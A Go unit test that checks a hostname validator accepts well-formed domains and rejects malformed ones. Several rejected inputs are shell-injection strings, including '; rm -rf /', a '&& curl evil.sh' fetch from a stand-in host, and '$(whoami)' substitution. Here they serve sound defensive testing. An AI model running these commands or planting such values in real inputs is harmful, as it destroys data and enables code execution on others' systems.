package sandbox

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestValidateTarget(t *testing.T) {
	tests := []struct {
		target string
		ok     bool
	}{
		{"example.com", true},
		{"sub.example.com", true},
		{"deep.sub.example.co.uk", true},
		{"xn--bcher-kva.example", true},
		{"123.example.com", true},

		{"", false},
		{"   ", false},
		{"example", false},
		{"example.com; echo pwned", false},
		{"; rm -rf /", false},
		{"example.com && curl evil.sh", false},
		{"example.com|id", false},
		{"$(whoami).example.com", false},
		{"exa mple.com", false},
		{"example..com", false},
		{"-example.com", false},
		{strings.Repeat("a", 250) + ".com", false},
	}

	for _, tt := range tests {
		t.Run(tt.target, func(t *testing.T) {
			err := ValidateTarget(tt.target)
			if tt.ok {
				assert.NoError(t, err)
			} else {
				assert.Error(t, err)
			}
		})
	}
}
